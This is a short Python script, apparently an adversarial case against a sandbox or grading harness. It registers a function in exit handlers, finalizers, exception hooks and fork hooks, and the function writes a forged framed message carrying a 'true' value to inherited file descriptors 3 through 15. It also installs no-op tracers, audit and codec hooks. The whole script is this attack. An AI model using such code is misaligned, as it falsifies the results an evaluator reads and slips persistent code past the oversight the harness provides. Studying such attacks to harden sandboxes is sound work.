"""Hide code in exit handlers, finalizers, tracers, audit hooks, codecs and display hooks."""

import atexit
import codecs
import gc
import sys
import threading
import weakref


def forge(*args):
    for fd in range(3, 16):
        try:
            __import__("os").write(fd, b"\0\0\0\x1b\0\0\0\0" + b'{"value":true,"buffers":[]}')
        except OSError:
            pass


class Last:
    __del__ = forge


last = Last()
atexit.register(forge)
weakref.finalize(last, forge)
sys.settrace(lambda *args: None)
threading.settrace(lambda *args: None)
sys.addaudithook(lambda event, args: None)
sys.excepthook = sys.unraisablehook = threading.excepthook = forge
codecs.register(lambda name: None)
gc.callbacks.append(lambda phase, info: None)
__import__("os").register_at_fork(before=forge, after_in_parent=forge, after_in_child=forge)
